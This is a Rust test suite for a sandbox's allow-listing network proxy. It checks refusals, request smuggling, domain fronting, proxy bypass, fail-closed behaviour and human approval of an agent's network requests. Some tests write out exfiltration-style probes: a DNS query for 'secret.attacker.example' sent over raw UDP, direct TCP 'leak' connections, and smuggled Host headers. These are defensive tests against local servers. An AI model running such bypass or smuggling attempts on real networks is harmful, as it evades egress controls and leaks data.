//! `--net allow`: only allow-listed names pass cordon's proxy, judged by host servers' own logs.

use std::collections::HashMap;
use std::ffi::OsStr;
use std::fs;
use std::net::UdpSocket;
use std::process::{Command, Stdio};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use serde_json::Value;

use crate::servers::{bare_repo, build_wheel, FileServer, Replies, TlsServer, FETCH, PY_CLIENT};
use crate::util::{
    alive, descendants, exists, have, processes_with_args, run_answered, wait_until, Env, Run,
};

const PROXY: &str = "http://127.0.0.1:3128";
const HELLO: &str = "hello through the proxy\n";

#[test]
fn proxy_variables_point_at_the_proxy() {
    let e = Env::new("egress-env");
    let run = e.sh(&["--allow-domain", "example.com"], "env").ok();
    let env: HashMap<&str, &str> = run
        .stdout
        .lines()
        .filter_map(|l| l.split_once('='))
        .collect();
    for var in [
        "http_proxy",
        "HTTP_PROXY",
        "https_proxy",
        "HTTPS_PROXY",
        "all_proxy",
        "ALL_PROXY",
        "npm_config_proxy",
        "npm_config_https_proxy",
        "YARN_HTTP_PROXY",
        "YARN_HTTPS_PROXY",
        "PIP_PROXY",
        "CARGO_HTTP_PROXY",
    ] {
        assert_eq!(env.get(var), Some(&PROXY), "{var}: {}", run.stdout);
    }
    for var in ["no_proxy", "NO_PROXY"] {
        assert_eq!(env.get(var), Some(&"localhost,127.0.0.1,::1"), "{var}");
    }
}

#[test]
fn allowed_name_works_for_curl_python_and_git() {
    need("curl", "curl");
    let e = Env::new("egress-allowed");
    let srv = e.root.join("srv");
    fs::create_dir_all(&srv).unwrap();
    fs::write(srv.join("hello.txt"), HELLO).unwrap();
    bare_repo(&e.root, &e.home, &srv.join("repo.git"));
    let allowed = FileServer::start(&srv);
    let base = format!("http://allowed.test:{}", allowed.port);
    let script = format!(
        "set -e\ncurl -sS --max-time 20 {base}/hello.txt > curl.out\n\
         python3 -c \"import urllib.request as u; open('py.out','wb').write(u.urlopen('{base}/hello.txt', timeout=20).read())\"\n\
         git clone -q {base}/repo.git cloned"
    );
    let policy = standard_policy(&e, true);
    e.sh(&policy.flags(), &script).ok();
    assert_eq!(fs::read_to_string(e.ws.join("curl.out")).unwrap(), HELLO);
    assert_eq!(fs::read_to_string(e.ws.join("py.out")).unwrap(), HELLO);
    assert_eq!(
        fs::read_to_string(e.ws.join("cloned/file.txt")).unwrap(),
        "from the mirror\n"
    );
    assert!(
        allowed.heads_with("/hello.txt") >= 2,
        "{}",
        allowed.report()
    );
    assert!(
        allowed.heads_with("/repo.git/info/refs") >= 1,
        "{}",
        allowed.report()
    );
    assert!(
        allowed.heads_with("host: allowed.test") >= 3,
        "{}",
        allowed.report()
    );
    let events = network_events(&e);
    let ok: Vec<_> = events
        .iter()
        .filter(|v| v["decision"] == "allowed")
        .collect();
    assert!(ok.len() >= 3, "allowed network events: {events:#?}");
    assert!(
        ok.iter()
            .all(|v| v["host"] == "allowed.test" && v["port"] == allowed.port),
        "{events:#?}"
    );
    assert!(
        ok.iter().any(|v| v["bytes_down"].as_u64() > Some(0)),
        "{events:#?}"
    );
    assert!(
        events.iter().all(|v| v["decision"] != "refused"),
        "{events:#?}"
    );
}

#[test]
fn https_goes_through_connect() {
    need("curl", "curl");
    need("openssl", "openssl");
    let e = Env::new("egress-https");
    let srv = e.root.join("srv");
    fs::create_dir_all(&srv).unwrap();
    fs::write(srv.join("hello.txt"), HELLO).unwrap();
    // The certificate goes where the sandbox can read it; the key stays outside.
    let (cert, key) = (e.ws.join("cert.pem"), e.root.join("key.pem"));
    let made = Command::new("openssl")
        .args([
            "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "2",
        ])
        .args([
            "-subj",
            "/CN=allowed.test",
            "-addext",
            "subjectAltName=DNS:allowed.test",
        ])
        .arg("-keyout")
        .arg(&key)
        .arg("-out")
        .arg(&cert)
        .output()
        .unwrap();
    assert!(
        made.status.success(),
        "openssl: {}",
        String::from_utf8_lossy(&made.stderr)
    );
    let tls = TlsServer::start(&srv, &cert, &key, &e.root.join("tls.log"));
    let policy = standard_policy(&e, true);
    let url = format!("https://allowed.test:{}/hello.txt", tls.port);
    let run = e
        .sh(
            &policy.flags(),
            &format!("curl -sS --max-time 20 --cacert cert.pem {url}"),
        )
        .ok();
    assert_eq!(run.stdout, HELLO);
    assert!(
        tls.log()
            .contains("GET /hello.txt HTTP/1.1 Host=allowed.test"),
        "{}",
        tls.log()
    );
    let events = network_events(&e);
    assert!(
        events.iter().any(|v| v["method"] == "CONNECT"
            && v["decision"] == "allowed"
            && v["host"] == "allowed.test"
            && v["port"] == tls.port
            && v["bytes_up"].as_u64() > Some(0)
            && v["bytes_down"].as_u64() > Some(0)),
        "{events:#?}"
    );
}

#[test]
fn names_off_the_list_are_refused_and_reach_nothing() {
    need("curl", "curl");
    let e = Env::new("egress-refused");
    let (allowed, denied) = servers(&e);
    let names = [
        "allowed.test",
        "denied.test",
        "www.allowed.test",
        "wild.test",
        "ok.wild.test",
        "blocked.wild.test",
    ];
    let policy = Policy::write(
        &e,
        &["allowed.test", "*.wild.test"],
        &["blocked.wild.test"],
        &names,
        true,
    );
    let (pa, pd) = (allowed.port, denied.port);
    let script = format!(
        "{FETCH}fetch control $C http://ok.wild.test:{pa}/hello.txt\n\
         fetch unlisted $C http://denied.test:{pd}/x\n\
         fetch exact-is-not-subdomain $C http://www.allowed.test:{pd}/x\n\
         fetch wildcard-is-not-apex $C http://wild.test:{pd}/x\n\
         fetch deny-beats-allow $C http://blocked.wild.test:{pd}/x\n\
         fetch ip-literal env -u no_proxy -u NO_PROXY $C http://127.0.0.1:{pd}/x\n\
         fetch connect-deny-beats-allow $C https://blocked.wild.test:{pd}/\n"
    );
    let run = e.sh(&policy.flags(), &script);
    let r = Replies::from_curl(&run.stdout);
    assert_eq!(
        (r["control"].status, r["control"].body.as_str()),
        (200, HELLO),
        "wildcard control"
    );
    for case in [
        "unlisted",
        "exact-is-not-subdomain",
        "wildcard-is-not-apex",
        "deny-beats-allow",
        "ip-literal",
    ] {
        r[case].assert_refusal(case, 403);
    }
    // curl shows a refused CONNECT's head only.
    r["connect-deny-beats-allow"].assert_refused_head("CONNECT to a denied subdomain", 403);
    assert!(
        denied.received_nothing(),
        "denied.test got: {}",
        denied.report()
    );
    assert_eq!(allowed.heads_with("/x "), 0, "{}", allowed.report());
    // cordon and the command share stderr, so a notice can land mid-line after a
    // fragment of curl's own message: count occurrences, not line starts.
    let told = run.stderr.matches("cordon: network: refused").count();
    assert!(told >= 6, "cordon told of {told} refusals: {}", run.stderr);
}

#[test]
fn request_smuggling_is_refused() {
    let e = Env::new("egress-smuggle");
    let (allowed, denied) = servers(&e);
    let code = format!(
        "{PY_CLIENT}\nA, D = 'allowed.test:{}', 'denied.test:{}'\n{}",
        allowed.port,
        denied.port,
        r#"
c = Conn(); c.send(f'GET http://{A}/smuggle-a HTTP/1.1\r\nHost: {D}\r\n\r\n'); out('host-mismatch', c.response())
c = Conn(); c.send(f'GET /smuggle-b HTTP/1.1\r\nHost: {D}\r\n\r\n'); out('origin-form', c.response())
c = Conn(); c.send(f'GET http://{A}/hello.txt HTTP/1.1\r\nHost: {A}\r\n\r\n'); out('keepalive-first', c.response())
c.send(f'GET http://{D}/smuggle-c HTTP/1.1\r\nHost: {D}\r\n\r\n'); out('keepalive-second', c.response())
c = Conn(); c.send(f'GET http://{A}/hello.txt HTTP/1.1\r\nHost: {A}\r\n\r\nGET http://{D}/smuggle-d HTTP/1.1\r\nHost: {D}\r\n\r\n')
out('pipelined-first', c.response()); out('pipelined-second', c.response())
c = Conn(); c.send(f'CONNECT {D} HTTP/1.1\r\nHost: {D}\r\n\r\n'); out('connect-denied', c.response(True))
ip = '127.0.0.1:' + D.split(':')[1]
c = Conn(); c.send(f'CONNECT {ip} HTTP/1.1\r\nHost: {ip}\r\n\r\n'); out('connect-ip', c.response(True))
c = Conn(); c.send(f'GET http://{A}/smuggle-e HTTP/1.1\r\nHost : {D}\r\n\r\n'); out('unparsable', c.response())
"#
    );
    let run = python(&e, &standard_policy(&e, true).flags(), &code).ok();
    let r = Replies::from_python(&run.stdout);
    r["host-mismatch"].assert_refusal("Host header disagreeing with the URL", 400);
    r["origin-form"].assert_refusal("origin-form request", 400);
    for case in ["keepalive-first", "pipelined-first"] {
        assert_eq!(
            (r[case].status, r[case].body.as_str()),
            (200, HELLO),
            "{case}"
        );
    }
    r["keepalive-second"].assert_refusal("second request on a keep-alive connection", 403);
    if r["pipelined-second"].status != 0 {
        r["pipelined-second"].assert_refusal("pipelined second request", 403);
    }
    r["connect-denied"].assert_refusal("CONNECT to an unlisted name", 403);
    r["connect-ip"].assert_refusal("CONNECT to an IP literal", 403);
    // hyper answers what it cannot parse with its own bare 400; cordon still reports it.
    assert_eq!(r["unparsable"].status, 400, "{}", run.stdout);
    assert!(
        run.stderr
            .contains("malformed-request: not a well-formed HTTP/1.1 request"),
        "{}",
        run.stderr
    );
    assert!(
        denied.received_nothing(),
        "denied.test got: {}",
        denied.report()
    );
    assert_eq!(allowed.heads_with("/hello.txt"), 2, "{}", allowed.report());
    assert_eq!(allowed.heads_with("smuggle"), 0, "{}", allowed.report());
    assert_eq!(allowed.heads_with("denied.test"), 0, "{}", allowed.report());
}

#[test]
fn domain_fronting_over_connect_sends_nothing_upstream() {
    let e = Env::new("egress-fronting");
    // A listener standing in for allowed.test: it counts connections and bytes, answers nothing.
    let upstream = FileServer::start(&e.root);
    let policy = standard_policy(&e, true);
    let attempt = |name: &str, then: &str| {
        let code = format!(
            "{PY_CLIENT}\nc = Conn(); c.send('CONNECT allowed.test:{p} HTTP/1.1\\r\\nHost: allowed.test:{p}\\r\\n\\r\\n')\n\
             r = c.response(True); out('connect', r)\nif r['status'] == 200:\n    {then}\n",
            p = upstream.port
        );
        let run = python(&e, &policy.flags(), &code).ok();
        let r = Replies::from_python(&run.stdout);
        assert_eq!(
            r["connect"].status, 200,
            "{name}: CONNECT to an allowed name: {}",
            run.stdout
        );
        eprintln!("{name}: {}", run.stdout.trim());
    };
    let tls = |sni: &str| {
        format!("ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE\n    \
                 try: ctx.wrap_socket(c.s, server_hostname={sni}); print('HANDSHAKE-DONE')\n    \
                 except (OSError, ssl.SSLError) as err: print('handshake failed', err)")
    };
    attempt("SNI denied.test", &tls("'denied.test'"));
    attempt(
        "not TLS",
        "c.send('GET / HTTP/1.1\\r\\nHost: denied.test\\r\\n\\r\\n'); print('reply', c.rest())",
    );
    attempt("no SNI", &tls("None"));
    settle();
    assert!(
        upstream.received_nothing(),
        "upstream got: {}",
        upstream.report()
    );
    // The control: a ClientHello naming allowed.test does arrive, so the others would have shown.
    attempt("SNI allowed.test", &tls("'allowed.test'"));
    assert!(
        wait_until(|| upstream.bytes() > 0),
        "control never arrived: {}",
        upstream.report()
    );
}

#[test]
fn programs_ignoring_the_proxy_reach_nothing() {
    need("curl", "curl");
    need("getent", "libc-bin");
    let e = Env::new("egress-bypass");
    let (allowed, _denied) = servers(&e);
    let udp = UdpSocket::bind("127.0.0.1:0").unwrap();
    udp.set_read_timeout(Some(Duration::from_millis(300)))
        .unwrap();
    let (tport, uport) = (allowed.port, udp.local_addr().unwrap().port());
    let code = format!(
        r#"
import os, socket
for k in list(os.environ):
    if 'proxy' in k.lower(): del os.environ[k]
for host in ['127.0.0.1', '10.0.2.2', '1.1.1.1']:
    try:
        s = socket.create_connection((host, {tport}), timeout=2); s.send(b'leak'); print('TCP-CONNECTED', host)
    except OSError as err: print('tcp refused', host, err)
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
query = b'\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06secret\x08attacker\x07example\x00\x00\x01\x00\x01'
for dest in [('127.0.0.1', {uport}), ('127.0.0.1', 53), ('1.1.1.1', 53)]:
    try: u.sendto(query, dest); print('udp sent', dest)
    except OSError as err: print('udp refused', dest, err)
for name in ['secret.attacker.example', 'example.com']:
    try: print('RESOLVED', name, socket.getaddrinfo(name, 80))
    except OSError as err: print('dns refused', name, err)
"#
    );
    fs::write(e.ws.join("bypass.py"), code).unwrap();
    let script = format!(
        "python3 bypass.py\n\
         env -u http_proxy -u HTTP_PROXY -u all_proxy -u ALL_PROXY curl -sS --max-time 5 http://allowed.test:{tport}/hello.txt && echo CURL-REACHED\n\
         curl -sS --max-time 5 --noproxy '*' http://127.0.0.1:{tport}/hello.txt && echo CURL-REACHED\n\
         getent hosts secret.attacker.example && echo GETENT-RESOLVED\ntrue"
    );
    let run = e.sh(&standard_policy(&e, true).flags(), &script).ok();
    for leak in [
        "TCP-CONNECTED",
        "RESOLVED",
        "CURL-REACHED",
        "GETENT-RESOLVED",
    ] {
        assert!(!run.stdout.contains(leak), "{leak}: {}", run.stdout);
    }
    settle();
    assert!(
        allowed.received_nothing(),
        "the host listener got: {}",
        allowed.report()
    );
    let mut buf = [0u8; 512];
    assert!(
        udp.recv_from(&mut buf).is_err(),
        "the host UDP socket received a datagram"
    );
}

#[test]
fn local_destinations_need_permission() {
    need("curl", "curl");
    let e = Env::new("egress-local");
    let (allowed, _denied) = servers(&e);
    let policy = standard_policy(&e, false);
    let script = format!(
        "{FETCH}fetch local $C http://allowed.test:{}/hello.txt",
        allowed.port
    );
    let run = e.sh(&policy.flags(), &script);
    Replies::from_curl(&run.stdout)["local"]
        .assert_refusal("allowed.test pinned to 127.0.0.1", 403);
    assert!(allowed.received_nothing(), "{}", allowed.report());
    let mut flags = policy.flags();
    flags.push("--allow-local-destinations");
    let run = e.sh(&flags, &script).ok();
    assert!(run.stdout.ends_with(HELLO), "{}", run.stdout);
    assert_eq!(allowed.heads_with("/hello.txt"), 1, "{}", allowed.report());
}

#[test]
fn forty_parallel_requests_succeed() {
    need("curl", "curl");
    let e = Env::new("egress-parallel");
    let srv = e.root.join("srv");
    fs::create_dir_all(&srv).unwrap();
    for i in 0..40 {
        fs::write(
            srv.join(format!("f{i}.txt")),
            format!("file {i}\n").repeat(1000),
        )
        .unwrap();
    }
    let allowed = FileServer::start(&srv);
    let script = format!(
        "for i in $(seq 0 39); do (curl -sS --max-time 60 -o out$i http://allowed.test:{}/f$i.txt || echo FAIL $i) & done; wait",
        allowed.port
    );
    let run = e.sh(&standard_policy(&e, true).flags(), &script).ok();
    assert!(
        !run.stdout.contains("FAIL"),
        "{}\n{}",
        run.stdout,
        run.stderr
    );
    for i in 0..40 {
        let got = fs::read_to_string(e.ws.join(format!("out{i}"))).unwrap_or_default();
        assert_eq!(got, format!("file {i}\n").repeat(1000), "request {i}");
    }
    assert_eq!(
        allowed.heads_with(".txt HTTP/1.1"),
        40,
        "{}",
        allowed.report()
    );
}

#[test]
fn killing_cordon_fails_closed() {
    need("curl", "curl");
    let e = Env::new("egress-death");
    let (allowed, denied) = servers(&e);
    let marker = format!("1000.{}", std::process::id());
    let script = format!(
        "sleep {marker} &\nwhile true; do\n  curl -s --max-time 5 -o /dev/null http://allowed.test:{}/hello.txt\n  \
         python3 -c \"import socket; socket.create_connection(('127.0.0.1', {}), timeout=1).send(b'direct')\" 2>/dev/null\n  \
         sleep 0.1\ndone",
        allowed.port, denied.port
    );
    let log = e.root.join("cordon.stderr");
    let mut child = e
        .sh_command(&standard_policy(&e, true).flags(), &script)
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(fs::File::create(&log).unwrap())
        .spawn()
        .unwrap();
    let first = wait_until(|| allowed.heads_with("/hello.txt") > 0);
    let started = descendants(child.id());
    child.kill().unwrap();
    child.wait().unwrap();
    assert!(
        first,
        "no request got through: {}",
        fs::read_to_string(&log).unwrap()
    );
    assert!(!started.is_empty(), "cordon had started no process");
    assert!(
        wait_until(
            || !started.iter().any(|p| alive(*p)) && processes_with_args(&["sleep", &marker]) == 0
        ),
        "sandbox processes outlived cordon: {:?}",
        started.iter().filter(|p| alive(**p)).collect::<Vec<_>>()
    );
    let after = allowed.connections();
    settle();
    assert_eq!(
        allowed.connections(),
        after,
        "requests arrived after cordon died"
    );
    assert!(
        denied.received_nothing(),
        "a direct connection arrived: {}",
        denied.report()
    );
}

#[test]
fn pip_downloads_from_an_allowed_mirror() {
    let py = ["python3", "/usr/bin/python3"]
        .into_iter()
        .find(|py| has_pip(py))
        .unwrap_or_else(|| {
            panic!("pip is needed: apt-get install python3-pip (.ci/run installs it)")
        });
    let e = Env::new("egress-pip");
    let srv = e.root.join("srv");
    fs::create_dir_all(srv.join("simple/tinypkg")).unwrap();
    fs::create_dir_all(srv.join("packages")).unwrap();
    let sha = build_wheel(&srv.join("packages"));
    let wheel = "tinypkg-1.0-py3-none-any.whl";
    fs::write(
        srv.join("simple/tinypkg/index.html"),
        format!("<!DOCTYPE html><html><body><a href=\"/packages/{wheel}#sha256={sha}\">{wheel}</a></body></html>\n"),
    )
    .unwrap();
    let mirror = FileServer::start(&srv);
    let policy = Policy::write(&e, &["pypi.test"], &[], &["pypi.test"], true);
    let script = format!(
        "{py} -m pip download --no-deps --no-cache-dir --disable-pip-version-check --trusted-host pypi.test \
         --index-url http://pypi.test:{}/simple/ -d dl tinypkg",
        mirror.port
    );
    let run = e.sh(&policy.flags(), &script).ok();
    let got = fs::read(e.ws.join("dl").join(wheel))
        .unwrap_or_else(|_| panic!("no wheel: {}\n{}", run.stdout, run.stderr));
    assert_eq!(got, fs::read(srv.join("packages").join(wheel)).unwrap());
    assert!(
        mirror.heads_with("/simple/tinypkg/") >= 1,
        "{}",
        mirror.report()
    );
    assert!(
        mirror.heads_with(&format!("/packages/{wheel}")) >= 1,
        "{}",
        mirror.report()
    );
}

#[test]
fn audit_records_refusals() {
    need("curl", "curl");
    let e = Env::new("egress-audit");
    let (allowed, denied) = servers(&e);
    let (pa, pd) = (allowed.port, denied.port);
    let script = format!(
        "curl -sS --max-time 20 http://denied.test:{pd}/x; curl -sS --max-time 20 https://denied.test:{pd}/; \
         curl -sS --max-time 20 http://allowed.test:{pa}/hello.txt"
    );
    let run = e.sh(&standard_policy(&e, true).flags(), &script);
    assert!(
        run.stdout.ends_with(HELLO),
        "{}\n{}",
        run.stdout,
        run.stderr
    );
    let events = network_events(&e);
    for method in ["GET", "CONNECT"] {
        let refused = events
            .iter()
            .find(|v| v["method"] == method && v["host"] == "denied.test");
        let v = refused.unwrap_or_else(|| panic!("no {method} denied.test event: {events:#?}"));
        assert_eq!(
            (&v["decision"], &v["port"]),
            (&Value::from("refused"), &Value::from(pd)),
            "{v}"
        );
        assert!(
            v["reason"].as_str().is_some_and(|r| !r.is_empty()),
            "no reason: {v}"
        );
        assert!(v["ts"].is_string() && v["run"].is_string(), "{v}");
    }
    let ok = events
        .iter()
        .find(|v| v["host"] == "allowed.test")
        .expect("no allowed.test event");
    assert_eq!(
        (&ok["decision"], &ok["rule"]),
        (&Value::from("allowed"), &Value::from("allowed.test")),
        "{ok}"
    );
    assert!(denied.received_nothing(), "{}", denied.report());
}

#[test]
fn kill_on_violation_ends_the_sandbox_at_the_first_refused_request() {
    need("curl", "curl");
    let e = Env::new("egress-kill");
    let (allowed, denied) = servers(&e);
    let (pa, pd) = (allowed.port, denied.port);
    // After the refusal the script would fetch from the allowed server and write a file:
    // neither may happen once the refusal has killed the sandbox.
    let script = format!(
        "curl -sS --max-time 20 http://denied.test:{pd}/x;          curl -sS --max-time 20 -o fetched http://allowed.test:{pa}/hello.txt; echo written > after-refusal"
    );
    let policy = standard_policy(&e, true);
    let mut flags = policy.flags();
    flags.extend(["--kill-on-violation", "network"]);
    let run = e.sh(&flags, &script);
    assert_eq!(run.code, 137, "{}\n{}", run.stdout, run.stderr);
    assert!(
        !exists(&e.ws.join("after-refusal")) && !exists(&e.ws.join("fetched")),
        "the sandbox went on after the refusal"
    );
    assert_eq!(allowed.heads_with("/hello.txt"), 0, "{}", allowed.report());
    assert!(denied.received_nothing(), "{}", denied.report());
    assert!(
        run.stderr
            .contains("killed the sandbox at the first network violation")
            && run.stderr.contains("denied.test"),
        "{}",
        run.stderr
    );
    assert!(
        fs::read_to_string(e.audit_path())
            .unwrap()
            .contains(r#""event":"sandbox_killed","class":"network""#),
        "no sandbox_killed event"
    );
}

/// `network.unlisted = "ask"`: a name off the list is held while a human decides in the
/// console (here: through the run's control socket); allowed, it goes through; denied, the
/// server gets nothing.
#[test]
fn an_unlisted_name_waits_for_a_human_when_the_policy_asks() {
    need("curl", "curl");
    for (choice, reaches) in [("allow_once", true), ("deny", false)] {
        let e = Env::new("egress-ask");
        let (_allowed, denied) = servers(&e);
        let policy = standard_policy(&e, true);
        let text = fs::read_to_string(&policy.path).unwrap();
        fs::write(&policy.path, format!("{text}unlisted = \"ask\"\n")).unwrap();
        let script = format!(
            "curl -sS --max-time 60 -o got -w '%{{http_code}}' http://denied.test:{}/hello.txt",
            denied.port
        );
        let mut argv = policy.flags();
        argv.extend(["--", "sh", "-c", &script]);
        let run = run_answered(&e, &argv, choice).run;
        if reaches {
            assert_eq!(run.stdout, "200", "{}", run.stderr);
            assert_eq!(fs::read_to_string(e.ws.join("got")).unwrap(), HELLO);
        } else {
            assert_eq!(run.stdout, "403", "{}", run.stderr);
            assert!(denied.received_nothing(), "{}", denied.report());
        }
        assert!(
            run.stderr.contains("held while a human decides"),
            "{}",
            run.stderr
        );
    }
}

/// An agent's `cordon request network.allow NAME`: refused before, and after a denial;
/// allowed once, exactly one more request reaches the server; for the session, every later
/// one does. Judged by what the server received.
#[test]
fn a_name_an_agent_asks_for_opens_only_as_far_as_a_human_allows() {
    need("curl", "curl");
    for (choice, codes, served) in [
        ("allow_once", ["403", "200", "403"], 1),
        ("allow_session", ["403", "200", "200"], 2),
        ("deny", ["403", "403", "403"], 0),
    ] {
        let e = Env::new("egress-request");
        let (_allowed, denied) = servers(&e);
        let policy = standard_policy(&e, true);
        let fetch = |tag: &str| {
            format!(
                "curl -sS --max-time 20 -o /dev/null -w '{tag}=%{{http_code}} ' http://denied.test:{}/hello.txt; ",
                denied.port
            )
        };
        let script = format!(
            "{}{} request network.allow denied.test -- the tests fetch from it; echo rc=$?; {}{}",
            fetch("before"),
            crate::util::cordon_inside(&e),
            fetch("first"),
            fetch("second")
        );
        let mut argv = policy.flags();
        argv.extend(["--", "sh", "-c", &script]);
        let a = run_answered(&e, &argv, choice);
        let out = &a.run.stdout;
        for (tag, code) in ["before", "first", "second"].iter().zip(codes) {
            assert!(
                out.contains(&format!("{tag}={code}")),
                "{choice} {tag}: {out}\n{}",
                a.run.stderr
            );
        }
        assert!(
            out.contains(if served > 0 { "rc=0" } else { "rc=1" }),
            "{out}"
        );
        assert_eq!(
            denied.heads_with("hello.txt"),
            served,
            "{choice}: {}",
            denied.report()
        );
        assert_eq!(a.seen["pending"]["subject"][1], "denied.test", "{}", a.seen);
        let log = fs::read_to_string(&policy.audit).unwrap();
        assert!(log.contains("approval_decided"), "{log}");
    }
}

// ---- helpers ----

/// A `[network]` policy file outside the workspace, and the run's audit file.
struct Policy {
    path: String,
    audit: String,
}

impl Policy {
    /// Allow mode with `allow` and `deny`, every name in `pins` pinned to 127.0.0.1.
    fn write(e: &Env, allow: &[&str], deny: &[&str], pins: &[&str], local: bool) -> Policy {
        static N: AtomicUsize = AtomicUsize::new(0);
        let list = |v: &[&str]| {
            v.iter()
                .map(|s| format!("{s:?}"))
                .collect::<Vec<_>>()
                .join(", ")
        };
        let hosts: Vec<String> = pins
            .iter()
            .map(|n| format!("{n:?} = \"127.0.0.1\""))
            .collect();
        let text = format!(
            "[network]\nmode = \"allow\"\nallow = [{}]\ndeny = [{}]\n{}hosts = {{ {} }}\n",
            list(allow),
            list(deny),
            if local {
                "allow_local_destinations = true\n"
            } else {
                ""
            },
            hosts.join(", ")
        );
        let path = e
            .root
            .join(format!("net-{}.toml", N.fetch_add(1, Ordering::SeqCst)));
        fs::write(&path, text).unwrap();
        let audit = e.audit_path().to_str().unwrap().to_string();
        Policy {
            path: path.to_str().unwrap().to_string(),
            audit,
        }
    }

    fn flags(&self) -> Vec<&str> {
        vec!["--policy", &self.path, "--audit", &self.audit]
    }
}

/// The brief's policy: allowed.test allowed, blocked.allowed.test denied, both test names pinned.
fn standard_policy(e: &Env, local: bool) -> Policy {
    Policy::write(
        e,
        &["allowed.test"],
        &["blocked.allowed.test"],
        &["allowed.test", "denied.test"],
        local,
    )
}

/// Two file servers serving `hello.txt`: one for allowed.test, one for denied.test.
fn servers(e: &Env) -> (FileServer, FileServer) {
    let srv = e.root.join("srv");
    fs::create_dir_all(&srv).unwrap();
    fs::write(srv.join("hello.txt"), HELLO).unwrap();
    (FileServer::start(&srv), FileServer::start(&srv))
}

/// `network` events of the run's audit log, as JSON.
fn network_events(e: &Env) -> Vec<Value> {
    fs::read_to_string(e.audit_path())
        .unwrap_or_default()
        .lines()
        .filter_map(|l| serde_json::from_str::<Value>(l).ok())
        .filter(|v| v["event"] == "network")
        .collect()
}

fn has_pip(python: &str) -> bool {
    let out = Command::new(python)
        .args(["-m", "pip", "--version"])
        .output();
    out.is_ok_and(|o| o.status.success())
}

fn need(program: &str, package: &str) {
    assert!(
        have(program),
        "{program} is needed for the egress tests: apt-get install {package} (.ci/run installs it)"
    );
}

/// Gives a wrongly forwarded connection time to be accepted before a host listener is judged.
fn settle() {
    std::thread::sleep(Duration::from_millis(300));
}

fn python(e: &Env, flags: &[&str], code: &str) -> Run {
    let mut argv: Vec<&OsStr> = vec![OsStr::new("run")];
    argv.extend(flags.iter().map(OsStr::new));
    argv.extend(["--", "python3", "-c", code].map(OsStr::new));
    e.cordon(&argv)
}
